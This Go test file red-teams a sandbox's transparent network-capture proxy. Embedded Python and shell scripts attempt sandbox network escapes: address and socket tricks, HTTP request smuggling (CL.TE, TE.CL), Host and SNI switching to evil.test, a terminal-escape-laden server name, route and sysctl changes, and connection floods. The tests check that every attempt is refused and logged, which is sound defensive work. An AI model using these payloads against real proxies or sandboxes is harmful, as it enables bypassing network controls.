package tests

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// The transparent capture attacked from inside the jail: addresses that
// might slip past the nat rule, sockets that are not TCP, the capture port
// and socket used directly, a connection that names one host and then
// another, and a flood of captured connections. Nothing may reach a server
// on the host that no rule names, and the log must say what was asked.

// redcapPy makes the attacks and prints "##NAME=RESULT":
//
//	addr HOSTIP WIDE UDP ABSTRACT
//	                       address and socket tricks toward the host's
//	                       servers (WIDE: TCP on every interface, UDP: a
//	                       datagram counter, ABSTRACT: an abstract unix
//	                       socket)
//	confuse                captured connections that name an allowed host
//	                       first and another one after
//	flood N                N captured connections held at once, then let go
//	exhaust                captured connections until the jail's descriptors
//	                       run out, then let go
const redcapPy = `
import errno, os, resource, socket, ssl, sys, time

def out(name, res):
    print("##%s=%s" % (name, res), flush=True)

def err(e):
    if isinstance(e, OSError) and e.errno:
        return errno.errorcode.get(e.errno, str(e.errno))
    return type(e).__name__

def attempt(name, f):
    try:
        out(name, f())
    except Exception as e:
        out(name, err(e))

def reply(s, want=1):
    # The status lines of up to want responses, then "closed" if the
    # connection ended first.
    s.settimeout(10)
    data, got = b"", []
    try:
        while len(got) < want:
            d = s.recv(65536)
            if not d:
                break
            data += d
            got = [l.split(b" ")[1].decode() for l in data.split(b"\n") if l.startswith(b"HTTP/1.1 ")]
    except Exception as e:
        got.append(err(e))
    s.close()
    res = ",".join(got)
    return res + (",closed" if len(got) < want else "") if res else "closed"

def tcp(fam, addr, data=b"", opts=(), proto=0, want=1):
    s = socket.socket(fam, socket.SOCK_STREAM, proto)
    for o in opts:
        s.setsockopt(*o)
    s.settimeout(5)
    s.connect(addr)
    if data:
        s.sendall(data)
    return reply(s, want)

def get(path, host):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, host)).encode()

def udp(fam, addr, proto=0):
    s = socket.socket(fam, socket.SOCK_DGRAM, proto)
    s.settimeout(1)
    for _ in range(3):
        s.sendto(b"jail udp probe", addr)
    try:
        s.recvfrom(512)
        return "answered"
    except socket.timeout:
        return "sent"

def tfo(addr, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.sendto(data, 0x20000000, addr)  # MSG_FASTOPEN: the request rides in the SYN
    return reply(s)

def bind(fam, addr, opts=()):
    # A listener of the command's own on a bridge port would take the
    # jail's connections meant for the proxy.
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    for o in opts:
        s.setsockopt(*o)
    s.bind(addr)
    s.listen(1)
    return "listening"

def abstract(name):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    s.connect("\0" + name)
    return "connected"

def forge(line):
    s = socket.socket(socket.AF_UNIX)
    s.connect("/run/jail/net/capture.sock")
    s.sendall(line)
    return reply(s)

def addr(hostip, wide, udpport, abst):
    wide, udpport = int(wide), int(udpport)
    A, A6 = socket.AF_INET, socket.AF_INET6
    hw = "%s:%d" % (hostip, wide)
    attempt("mapped-host", lambda: tcp(A6, ("::ffff:" + hostip, wide), get("/attack-mapped", hw)))
    attempt("mapped-loopback", lambda: tcp(A6, ("::ffff:127.0.0.1", wide)))
    attempt("v6-loopback", lambda: tcp(A6, ("::1", wide)))
    attempt("v6-nat64", lambda: tcp(A6, ("64:ff9b::" + hostip, wide)))
    attempt("v6-compat", lambda: tcp(A6, ("::" + hostip, wide)))
    attempt("v6-translated", lambda: tcp(A6, ("::ffff:0:" + hostip, wide)))
    attempt("zero", lambda: tcp(A, ("0.0.0.0", wide)))
    attempt("lo2", lambda: tcp(A, ("127.0.0.2", wide)))
    attempt("lo-top", lambda: tcp(A, ("127.255.255.254", wide)))
    attempt("bind-lo", lambda: tcp(A, (hostip, wide), get("/attack-bind-lo", hw), [(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")]))
    attempt("bind-eth", lambda: tcp(A, (hostip, wide), b"", [(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")]))
    attempt("mark", lambda: tcp(A, (hostip, wide), b"", [(socket.SOL_SOCKET, socket.SO_MARK, 1)]))
    attempt("transparent", lambda: tcp(A, (hostip, wide), b"", [(socket.SOL_IP, 19, 1)]))
    attempt("tfo", lambda: tfo((hostip, wide), get("/attack-tfo", hw)))
    attempt("mptcp-host", lambda: tcp(A, (hostip, wide), get("/attack-mptcp", hw), proto=262))
    attempt("mptcp-ok", lambda: tcp(A, ("192.0.2.50", 80), get("/mptcp-ok", "plain.allowed.test"), proto=262))
    attempt("sctp", lambda: socket.socket(A, socket.SOCK_STREAM, 132) and "opened")
    attempt("sctp-seq", lambda: socket.socket(A, socket.SOCK_SEQPACKET, 132) and "opened")
    attempt("ping", lambda: socket.socket(A, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) and "opened")
    attempt("ping6", lambda: socket.socket(A6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) and "opened")
    attempt("raw", lambda: socket.socket(A, socket.SOCK_RAW, socket.IPPROTO_ICMP) and "opened")
    attempt("raw-ipproto", lambda: socket.socket(A, socket.SOCK_RAW, socket.IPPROTO_RAW) and "opened")
    attempt("udplite", lambda: socket.socket(A, socket.SOCK_DGRAM, 136) and "opened")
    attempt("l2tp", lambda: socket.socket(A, socket.SOCK_DGRAM, 115) and "opened")
    attempt("smc", lambda: socket.socket(A6, socket.SOCK_STREAM, 256) and "opened")
    attempt("udp-host", lambda: udp(A, (hostip, udpport)))
    attempt("udp-mapped", lambda: udp(A6, ("::ffff:" + hostip, udpport)))
    attempt("udplite-host", lambda: udp(A, (hostip, udpport), 136))
    attempt("silent", lambda: tcp(A, ("192.0.2.51", 80)))
    for port in (3128, 3129):
        attempt("bind-%d" % port, lambda: bind(A, ("127.0.0.1", port)))
        attempt("bind-any-%d" % port, lambda: bind(A, ("0.0.0.0", port)))
        attempt("bind-dual-%d" % port, lambda: bind(A6, ("::", port)))
        attempt("bind-reuseport-%d" % port, lambda: bind(A, ("127.0.0.1", port), [(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)]))
    attempt("abstract-host", lambda: abstract(abst))
    attempt("tun", lambda: open("/dev/net/tun", "rb") and "opened")
    attempt("direct-silent", lambda: tcp(A, ("127.0.0.1", 3129)))
    attempt("direct-host", lambda: tcp(A, ("127.0.0.1", 3129), get("/attack-direct", hw)))
    attempt("forge-mapped", lambda: forge(("[::ffff:%s]:%d\n" % (hostip, wide)).encode()))
    attempt("forge-zone", lambda: forge(b"[fe80::1%lo]:80\n" + get("/attack-zone", "plain.allowed.test")))
    attempt("forge-long", lambda: forge(b"1" * 200 + b"\n"))
    attempt("forge-noline", lambda: forge(("%s:%d" % (hostip, wide)).encode() + get("/attack-noline", hw)))

def tls(name, sni, reqs, want):
    ctx = ssl.create_default_context(cafile="/run/jail/ca.pem")
    ctx.check_hostname = False
    s = socket.create_connection(("192.0.2.60", 443), timeout=10)
    s = ctx.wrap_socket(s, server_hostname=sni)
    s.sendall(b"".join(reqs))
    return reply(s, want)

def confuse():
    P = ("192.0.2.40", 80)
    A = socket.AF_INET
    ok, evil = "plain.allowed.test", "evil.test"
    attempt("pipe", lambda: tcp(A, P, get("/pipe-ok", ok) + get("/attack-pipe", evil), want=2))
    attempt("pipe-port", lambda: tcp(A, P, get("/pipe-port-ok", ok) + get("/attack-pipe-port", ok + ":8080"), want=2))
    smuggled = get("/attack-clte", evil)
    attempt("clte", lambda: tcp(A, P, b"POST /clte-ok HTTP/1.1\r\nHost: " + ok.encode() +
        b"\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(smuggled)) + smuggled, want=2))
    chunk = get("/attack-tecl", evil)
    attempt("tecl", lambda: tcp(A, P, b"POST /tecl-ok HTTP/1.1\r\nHost: " + ok.encode() +
        b"\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n%x\r\n" % len(chunk) + chunk + b"\r\n0\r\n\r\n" + get("/tecl-after", ok), want=2))
    attempt("te-obfuscated", lambda: tcp(A, P, b"POST /attack-te HTTP/1.1\r\nHost: " + ok.encode() +
        b"\r\nTransfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n" + get("/attack-te-after", evil), want=2))
    attempt("absform", lambda: tcp(A, P, b"GET http://evil.test/attack-absform HTTP/1.1\r\nHost: plain.allowed.test\r\n\r\n"))
    attempt("userinfo", lambda: tcp(A, P, b"GET http://plain.allowed.test@evil.test/attack-userinfo HTTP/1.1\r\nHost: plain.allowed.test\r\n\r\n"))
    attempt("connect-in", lambda: tcp(A, P, b"CONNECT evil.test:80 HTTP/1.1\r\nHost: plain.allowed.test\r\n\r\n" + get("/attack-connect-in", evil)))
    attempt("no-host", lambda: tcp(A, P, b"GET /attack-no-host HTTP/1.0\r\n\r\n"))
    attempt("two-hosts", lambda: tcp(A, P, b"GET /attack-two-hosts HTTP/1.1\r\nHost: plain.allowed.test\r\nHost: evil.test\r\n\r\n"))
    api = "api.allowed.test"
    attempt("tls-pipe", lambda: tls("tls-pipe", api, [get("/tls-ok", api), get("/attack-tls-pipe", evil)], 2))
    attempt("tls-host", lambda: tls("tls-host", api, [get("/attack-tls-host", evil)], 1))
    attempt("tls-sni-evil", lambda: tls("tls-sni-evil", evil, [get("/attack-sni-evil", evil)], 1))
    attempt("tls-sni-localhost", lambda: tls("tls-sni-localhost", "localhost", [get("/attack-sni-localhost", api)], 1))
    attempt("tls-no-sni", lambda: tls("tls-no-sni", None, [get("/attack-no-sni", api)], 1))

def nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard

def after(name):
    attempt(name + "-capture", lambda: tcp(socket.AF_INET, ("192.0.2.102", 80), get("/" + name + "-capture", "plain.allowed.test")))
    attempt(name + "-proxy", lambda: tcp(socket.AF_INET, ("127.0.0.1", 3128),
        ("GET http://plain.allowed.test/%s-proxy HTTP/1.1\r\nHost: plain.allowed.test\r\n\r\n" % name).encode()))

def flood(n):
    n = int(n)
    nofile()
    held, answered = [], 0
    for i in range(n):
        try:
            s = socket.create_connection(("192.0.2.%d" % (100 + i % 2), 80), timeout=10)
        except OSError as e:
            out("flood-error", err(e))
            break
        if i % 2 == 0:
            s.sendall(get("/flood", "plain.allowed.test"))
        held.append(s)
    for s in held[::2]:
        try:
            s.settimeout(5)
            if s.recv(4096).startswith(b"HTTP/1.1 200"):
                answered += 1
        except OSError:
            pass
    for s in held:
        s.close()
    out("flood", "%d held, %d answered" % (len(held), answered))
    time.sleep(1)
    after("after")

def exhaust():
    # As many captured connections as the jail may hold: the bridge holds
    # more descriptors for each than the client does, so it runs out first.
    limit = nofile() - 64
    held = []
    while len(held) < limit:
        try:
            held.append(socket.create_connection(("192.0.2.103", 80), timeout=3))
        except OSError as e:
            break
    out("exhaust", len(held))
    for s in held:
        s.close()
    time.sleep(2)
    after("exhausted")

cmd = sys.argv[1]
{"addr": addr, "confuse": confuse, "flood": flood, "exhaust": exhaust}[cmd](*sys.argv[2:])
`

// udpCounter counts the datagrams that reach a UDP socket on every host
// interface.
type udpCounter struct {
	conn *net.UDPConn
	n    atomic.Int64
}

func newUDPCounter(t *testing.T) *udpCounter {
	t.Helper()
	return newUDPCounterAt(t, "0.0.0.0:0")
}

// newUDPCounterAt is a udpCounter on addr.
func newUDPCounterAt(t *testing.T, addr string) *udpCounter {
	t.Helper()
	ua, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		t.Fatal(err)
	}
	c, err := net.ListenUDP("udp", ua)
	if err != nil {
		t.Fatalf("listening for UDP on %s: %v", addr, err)
	}
	u := &udpCounter{conn: c}
	t.Cleanup(func() { c.Close() })
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := c.ReadFromUDP(buf); err != nil {
				return
			}
			u.n.Add(1)
		}
	}()
	return u
}

func (u *udpCounter) Port() int { return u.conn.LocalAddr().(*net.UDPAddr).Port }

// abstractCounter counts the connections to an abstract unix socket of
// the host's network namespace.
type abstractCounter struct {
	name string
	n    atomic.Int64
}

func newAbstractCounter(t *testing.T) *abstractCounter {
	t.Helper()
	a := &abstractCounter{name: fmt.Sprintf("jail-redcap-%d-%d", os.Getpid(), time.Now().UnixNano())}
	l, err := net.Listen("unix", "@"+a.name)
	if err != nil {
		t.Fatalf("listening on an abstract unix socket: %v", err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			a.n.Add(1)
			c.Close()
		}
	}()
	// Control: the host itself reaches it.
	c, err := net.Dial("unix", "@"+a.name)
	if err != nil {
		t.Fatalf("control: the host cannot reach its own abstract socket: %v", err)
	}
	c.Close()
	for deadline := time.Now().Add(5 * time.Second); a.n.Load() == 0 && time.Now().Before(deadline); {
		time.Sleep(10 * time.Millisecond)
	}
	if a.n.Load() != 1 {
		t.Fatalf("control: the abstract socket did not count the host's connection")
	}
	a.n.Store(0)
	return a
}

// noMappedSpelling fails when the log names a host in a spelling that
// hides what it is: an IPv4-mapped address must be logged as the IPv4
// address it is, and no address carries a zone.
func noMappedSpelling(t *testing.T, ds []decision) {
	t.Helper()
	for _, d := range ds {
		if strings.Contains(d.Host, "::ffff:") || strings.Contains(d.Host, "%") {
			t.Errorf("the log names a host in a spelling that hides what it is: %v", d)
		}
	}
}

// Addresses that might slip past the capture's nat rule, sockets other
// than TCP, and the capture port and socket used directly: nothing reaches
// the host's TCP server on every interface, its UDP socket, or its
// loopback; every connection that reached the proxy is logged by the
// address it really names.
func TestRedCaptureAddressTricks(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		n := setupNet(t, s, "")
		wide := newUpstreamAt(t, "0.0.0.0:0", false, "")
		udp := newUDPCounter(t)
		hostIP := hostIPv4()
		if hostIP == "" {
			t.Fatalf("this machine has no non-loopback IPv4 address to test against")
		}
		s.WriteFile(s.Project+"/redcap.py", redcapPy, 0o644)
		abst := newAbstractCounter(t)
		r := s.Sh(fmt.Sprintf(unsetProxy+"echo session=$JAIL_SESSION\npython3 redcap.py addr %s %d %d %s", hostIP, wide.Port(), udp.Port(), abst.name))
		closed := func(v string) bool { return v == "closed" }
		for _, port := range []string{"3128", "3129"} {
			for _, k := range []string{"bind-", "bind-any-", "bind-dual-", "bind-reuseport-"} {
				wantKV(t, r, k+port, is("EADDRINUSE"), "EADDRINUSE (the bridge holds the port)")
			}
		}
		// Abstract unix sockets belong to a network namespace: the host's
		// are not the jail's.
		wantKV(t, r, "abstract-host", is("ECONNREFUSED"), "ECONNREFUSED (the host's abstract socket is in another network namespace)")
		if c := abst.n.Load(); c != 0 {
			t.Errorf("the host's abstract unix socket @%s accepted %d connections from inside the jail", abst.name, c)
		}
		wantKV(t, r, "tun", func(v string) bool { return v != "opened" }, "no tun device")
		for _, k := range []string{"mapped-host", "silent", "bind-lo", "tfo", "mptcp-host", "direct-silent", "direct-host", "forge-mapped"} {
			wantKV(t, r, k, closed, "closed by the proxy without an answer")
		}
		// A forged line the proxy refuses after its first read leaves the
		// rest unread on the capture socket: closing it resets the writer.
		for _, k := range []string{"forge-zone", "forge-long", "forge-noline"} {
			wantKV(t, r, k, func(v string) bool { return v == "closed" || v == "ECONNRESET" }, "closed or reset by the proxy without an answer")
		}
		for _, k := range []string{"mapped-loopback", "v6-loopback", "zero", "lo2", "lo-top"} {
			// The jail's loopback is its own: nothing listens on the port there.
			wantKV(t, r, k, is("ECONNREFUSED"), "ECONNREFUSED (the jail's own loopback)")
		}
		for _, k := range []string{"v6-nat64", "v6-compat", "v6-translated"} {
			// IPv6 spellings of the host's IPv4 address are IPv6: no route.
			wantKV(t, r, k, is("ENETUNREACH"), "ENETUNREACH (IPv6 has no route)")
		}
		wantKV(t, r, "bind-eth", is("ENODEV"), "ENODEV (the jail has no other interface)")
		for _, k := range []string{"mark", "transparent", "raw"} {
			wantKV(t, r, k, is("EPERM"), "EPERM (no capability over the jail's network)")
		}
		for _, k := range []string{"ping", "ping6"} {
			wantKV(t, r, k, is("EACCES"), "EACCES (ping sockets are off in the jail's network)")
		}
		// Protocols beyond TCP, UDP, ping and MPTCP are refused before the
		// kernel would load their module (UDP-Lite is built in here, so
		// only the filter refuses it).
		for _, k := range []string{"sctp", "sctp-seq", "udplite", "l2tp", "smc", "raw-ipproto"} {
			wantKV(t, r, k, is("EPROTONOSUPPORT"), "EPROTONOSUPPORT (refused by the seccomp filter)")
		}
		for _, k := range []string{"udp-host", "udp-mapped", "udplite-host"} {
			wantKV(t, r, k, func(v string) bool { return v != "answered" }, "no answer")
		}
		wantKV(t, r, "mptcp-ok", is("200"), "200: a Multipath TCP client is captured and decided like any other")
		if c := wide.Conns(); c != 0 {
			t.Errorf("the host's server on %s:%d accepted %d connections from inside the jail (paths %v)", hostIP, wide.Port(), c, wide.Paths())
		}
		if c := n.Canary.Conns(); c != 0 {
			t.Errorf("the host canary on 127.0.0.1:%d accepted %d connections", n.Canary.Port(), c)
		}
		if c := udp.n.Load(); c != 0 {
			t.Errorf("the host's UDP socket on port %d received %d datagrams from inside the jail", udp.Port(), c)
		}
		if got := n.Plain.SawPrefix("/attack"); len(got) > 0 {
			t.Errorf("forged or tricked connections reached the plain server: %v", got)
		}
		ds := decisions(t, s, sessionOf(t, r))
		noMappedSpelling(t, ds)
		var hostDenials int
		for _, d := range ds {
			if d.Host == hostIP {
				// direct-host dialled the capture port itself.
				if d.Verdict != "deny" || d.Method != "CAPTURE" || (d.Port != wide.Port() && d.Port != 3129) {
					t.Errorf("a connection to the host's address is logged as %v; want a denied CAPTURE to port %d", d, wide.Port())
				}
				hostDenials++
			}
		}
		// mapped-host, bind-lo, tfo, mptcp-host, direct-host, forge-mapped.
		if hostDenials < 6 {
			t.Errorf("the log has %d denied connections to %s, want one for each of the 6 attempts naming it:\n%s", hostDenials, hostIP, dumpDecisions(ds))
		}
		if d, ok := findDecision(ds, "plain.allowed.test", "/mptcp-ok"); !ok || d.Verdict != "allow" {
			t.Errorf("the Multipath TCP request is not logged as allowed:\n%s", dumpDecisions(ds))
		}
		if d, ok := findDecision(ds, "127.0.0.1", ""); !ok || d.Verdict != "deny" || d.Port != 3129 {
			t.Errorf("a silent connection dialled to the capture port itself: want 127.0.0.1:3129 denied, got %v in:\n%s", d, dumpDecisions(ds))
		}
	})
}

// The jail's network cannot be changed from inside: no address, rule,
// link or IPv6 route can be added, no sysctl written, and the command is
// in a network namespace of its own, not the host's, with only lo in it.
func TestRedCaptureNetworkFixed(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		setupNet(t, s, "")
		r := s.Sh(`
			echo "##netns=$(readlink /proc/self/ns/net)"
			echo "##init-netns=$(readlink /proc/1/ns/net 2>/dev/null || echo hidden)"
			echo "##links=$(ip -o link show | awk -F': ' '{print $2}' | tr '\n' ' ')"
			ip addr add 10.9.9.9/32 dev lo 2>/dev/null; echo "##addr-add=$?"
			ip rule add from all lookup 100 2>/dev/null; echo "##rule-add=$?"
			ip link add d0 type dummy 2>/dev/null; echo "##link-add=$?"
			ip -6 route add default dev lo 2>/dev/null; echo "##route6-add=$?"
			ip route replace default dev lo table 100 2>/dev/null; echo "##route-table=$?"
			for k in ipv4/conf/all/route_localnet ipv4/ip_forward ipv4/ping_group_range; do
				echo 1 > /proc/sys/net/$k 2>/dev/null; echo "##sysctl-$(basename $k)=$?"
			done
			nsenter -t 1 -n true 2>/dev/null; echo "##nsenter=$?"
			echo "##route=$(ip route show default)"`)
		if hostNS, err := os.Readlink("/proc/self/ns/net"); err != nil || kvs(r)["netns"] == hostNS || !strings.HasPrefix(kvs(r)["netns"], "net:[") {
			t.Errorf("the command's network namespace %q is the host's (%q, %v)", kvs(r)["netns"], hostNS, err)
		}
		wantKV(t, r, "links", is("lo "), "lo alone")
		for _, k := range []string{"addr-add", "rule-add", "link-add", "route6-add", "route-table",
			"sysctl-route_localnet", "sysctl-ip_forward", "sysctl-ping_group_range", "nsenter"} {
			wantKV(t, r, k, func(v string) bool { return v != "0" }, "a failure")
		}
		wantKV(t, r, "route", func(v string) bool { return strings.HasPrefix(v, "default dev lo") }, "the capture's default route, unchanged")
	})
}

// A captured connection is decided by the first name it sends; a later
// request on it that names another host (pipelined, smuggled in a body
// with both Content-Length and Transfer-Encoding, in absolute form, with
// userinfo, a second Host field, TLS to an allowed name with another Host
// inside, HTTP/2 with another :authority) is refused, reaches no server,
// and is logged with the host it named.
func TestRedCaptureHostSwitch(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		n := setupNet(t, s, "")
		s.WriteFile(s.Project+"/redcap.py", redcapPy, 0o644)
		r := s.Sh(probeSh + unsetProxy + `
			echo session=$JAIL_SESSION
			python3 redcap.py confuse
			probe h2-authority --http2 --resolve api.allowed.test:443:192.0.2.70 -H 'Host: evil.test' https://api.allowed.test/attack-h2-authority
			probe h1-host --http1.1 --resolve api.allowed.test:443:192.0.2.71 -H 'Host: evil.test' https://api.allowed.test/attack-h1-host
			probe h2-ok --http2 --resolve api.allowed.test:443:192.0.2.72 https://api.allowed.test/h2-ok`)
		for k, want := range map[string]string{
			"pipe": "200,403", "pipe-port": "200,403", "clte": "200,403", "tecl": "200,200",
			"absform": "403", "userinfo": "403", "connect-in": "400", "tls-pipe": "200,403", "tls-host": "403",
		} {
			wantKV(t, r, k, is(want), want)
		}
		for _, k := range []string{"no-host", "tls-sni-evil", "tls-sni-localhost", "tls-no-sni"} {
			wantKV(t, r, k, func(v string) bool { return !strings.HasPrefix(v, "200") }, "no answer from a server")
		}
		for _, k := range []string{"te-obfuscated", "two-hosts"} {
			wantKV(t, r, k, func(v string) bool { return !strings.Contains(v, "200") }, "refused")
		}
		ps := probes(t, r)
		wantOK(t, getProbe(t, ps, r, "h2-ok"), "/h2-ok")
		for _, name := range []string{"h2-authority", "h1-host"} {
			if p := getProbe(t, ps, r, name); p.HTTP != "403" {
				t.Errorf("%s: want the proxy's 403 for the Host it names; got %s", name, p)
			}
		}
		for _, path := range []string{"/pipe-ok", "/pipe-port-ok", "/clte-ok", "/tecl-ok", "/tecl-after"} {
			if !n.Plain.Saw(path) {
				t.Errorf("control: the plain server did not see %s (saw %v)", path, n.Plain.Paths())
			}
		}
		if !n.API.Saw("/tls-ok") {
			t.Errorf("control: the TLS server did not see /tls-ok (saw %v)", n.API.Paths())
		}
		if c := n.Trap.Conns(); c != 0 {
			t.Errorf("the trap server (every refused name is mapped there) accepted %d connections; paths %v", c, n.Trap.Paths())
		}
		for _, u := range []*upstream{n.API, n.Plain} {
			if got := u.SawPrefix("/attack"); len(got) > 0 {
				t.Errorf("a request for another host reached an allowed server: %v", got)
			}
			for _, h := range u.hits.Requests() {
				if strings.Contains(h.Host, "evil") {
					t.Errorf("an allowed server received %s %s for Host %q", h.Method, h.Path, h.Host)
				}
			}
		}
		ds := decisions(t, s, sessionOf(t, r))
		for _, path := range []string{"/attack-pipe", "/attack-clte", "/attack-tls-pipe", "/attack-tls-host", "/attack-h2-authority", "/attack-h1-host", "/attack-absform"} {
			if d, ok := findDecision(ds, "evil.test", path); !ok || d.Verdict != "deny" || d.Reason != "host header mismatch" {
				t.Errorf("the log does not show %s for evil.test refused as a host header mismatch; got %v in:\n%s", path, d, dumpDecisions(ds))
			}
		}
		for _, d := range ds {
			if d.Verdict == "allow" && strings.HasPrefix(d.Path, "/attack") {
				t.Errorf("the log shows a refused request as allowed: %v", d)
			}
		}
	})
}

// Hundreds of captured connections held at once, half of them allowed
// and answered, half silent to an IP literal: the host process stays
// within its connection cap (past it, connections are refused and
// logged), and the capture and the proxy port work again after.
func TestRedCaptureFlood(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		n := setupNet(t, s, "")
		s.WriteFile(s.Project+"/redcap.py", redcapPy, 0o644)
		cmd := s.JailCmd("--", "sh", "-c", unsetProxy+"echo session=$JAIL_SESSION\npython3 redcap.py flood 600")
		var stdout, stderr bytes.Buffer
		cmd.Stdout, cmd.Stderr = &stdout, &stderr
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		var peak procPeak
		var wg sync.WaitGroup
		wg.Add(1)
		go func() { defer wg.Done(); peak = sampleProc(cmd.Process.Pid) }()
		err := cmd.Wait()
		wg.Wait()
		r := Result{Stdout: stdout.String(), Stderr: stderr.String()}
		if err != nil {
			t.Fatalf("the flood run failed: %v\n%s", err, r)
		}
		t.Logf("the jail's host process peaked at %d descriptors, %d kB VmHWM", peak.fds, peak.hwm)
		wantKV(t, r, "flood", func(v string) bool {
			var held, answered int
			fmt.Sscanf(v, "%d held, %d answered", &held, &answered)
			return held == 600 && answered > 0 && answered <= 256
		}, "600 held, at most 256 (the session's cap) answered")
		wantKV(t, r, "after-capture", is("200"), "200: the capture works again after the flood")
		wantKV(t, r, "after-proxy", is("200"), "200: the proxy port works again after the flood")
		if peak.fds == 0 || peak.fds > 700 {
			t.Errorf("the jail's host process peaked at %d descriptors, want under 700 (256 connections and their upstreams)", peak.fds)
		}
		if !n.Plain.Saw("/after-capture") {
			t.Errorf("control: the plain server did not see /after-capture")
		}
		var limited int
		for _, d := range decisions(t, s, sessionOf(t, r)) {
			if d.Verdict == "deny" && d.Rule == "limit connections" {
				limited++
			}
		}
		if limited == 0 {
			t.Errorf("no captured connection was refused at the session's cap, yet 600 were held:\n%s", r)
		}
	})
}

// The jail holds captured connections open until the bridge inside it
// runs out of descriptors, then lets them all go: the capture and the
// proxy port serve again. A bridge that stopped accepting at its first
// failed accept would leave the jail without a network for the rest of
// the session.
func TestRedCaptureDescriptorExhaustion(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		n := setupNet(t, s, "")
		s.WriteFile(s.Project+"/redcap.py", redcapPy, 0o644)
		r := s.Sh(unsetProxy + "python3 redcap.py exhaust")
		t.Logf("held %s captured connections at once", kvs(r)["exhaust"])
		wantKV(t, r, "exhausted-capture", is("200"), "200: the capture serves again once the connections are let go")
		wantKV(t, r, "exhausted-proxy", is("200"), "200: the proxy port serves again once the connections are let go")
		for _, p := range []string{"/exhausted-capture", "/exhausted-proxy"} {
			if !n.Plain.Saw(p) {
				t.Errorf("the plain server did not see %s (saw %d requests)", p, len(n.Plain.Paths()))
			}
		}
	})
}

// helloPy sends a hand-made TLS ClientHello for a server name (alone,
// with an encrypted_client_hello extension, or with a second name after
// it), captured (to a
// documentation address) or through CONNECT, and prints "##NAME=upstream"
// when the server answered anything, else "closed".
const helloPy = `
import os, socket, struct, sys

def ext(typ, data):
    return struct.pack(">HH", typ, len(data)) + data

def hello(names, ech):
    sni = b""
    for name in names:
        n = name.encode("latin1")
        sni += struct.pack(">BH", 0, len(n)) + n
    exts = ext(0, struct.pack(">H", len(sni)) + sni)
    exts += ext(0x000a, struct.pack(">HHH", 4, 0x001d, 0x0017))           # supported_groups
    exts += ext(0x000b, b"\x01\x00")                                      # ec_point_formats
    exts += ext(0x000d, struct.pack(">HHHH", 6, 0x0804, 0x0403, 0x0401))  # signature_algorithms
    if ech:
        # ClientHelloOuter: HPKE suite, config id, enc, payload.
        body = b"\x00" + struct.pack(">HHB", 1, 1, 7) + struct.pack(">H", 32) + os.urandom(32) + struct.pack(">H", 64) + os.urandom(64)
        exts += ext(0xfe0d, body)
    suites = struct.pack(">HHHH", 0xc02f, 0xc02b, 0x009c, 0x002f)
    body = b"\x03\x03" + os.urandom(32) + b"\x00" + struct.pack(">H", len(suites)) + suites + b"\x01\x00"
    body += struct.pack(">H", len(exts)) + exts
    msg = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(msg)) + msg

def answer(s):
    s.settimeout(10)
    try:
        d = s.recv(16)
    except OSError:
        d = b""
    return "upstream" if d[:1] in (b"\x16", b"\x15") else "closed"

def via_capture(names, ech):
    s = socket.create_connection(("192.0.2.90", 443), timeout=10)
    s.sendall(hello(names, ech))
    return answer(s)

def via_connect(names, ech):
    name = names[0]
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (name, name)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        d = s.recv(1)
        if not d:
            return "closed"
        head += d
    if b" 200 " not in head.split(b"\r\n")[0]:
        return "refused"
    s.sendall(hello(names, ech))
    return answer(s)

name = sys.argv[1]
for via, f in (("capture", via_capture), ("connect", via_connect)):
    for what, names, ech in (("plain", [name], False), ("ech", [name], True), ("two", [name, "evil.test"], False)):
        print("##%s-%s=%s" % (via, what, f(names, ech)), flush=True)
# A server name that would drive the terminal that shows the log.
print("##capture-esc=%s" % via_capture(["evil\x1b]0;OWNED\x07\x1b[31m.test"], False), flush=True)
`

// helloCounter is a TLS server on the host's loopback that counts the
// ClientHellos that reach it.
type helloCounter struct {
	l     net.Listener
	hello atomic.Int64
}

func newHelloCounter(t *testing.T) *helloCounter {
	t.Helper()
	h := &helloCounter{}
	leaf := netPKI.get(t).Leaf
	cfg := &tls.Config{GetConfigForClient: func(*tls.ClientHelloInfo) (*tls.Config, error) {
		h.hello.Add(1)
		return nil, nil
	}, Certificates: []tls.Certificate{leaf}}
	l, err := tls.Listen("tcp", "127.0.0.1:0", cfg)
	if err != nil {
		t.Fatal(err)
	}
	h.l = l
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
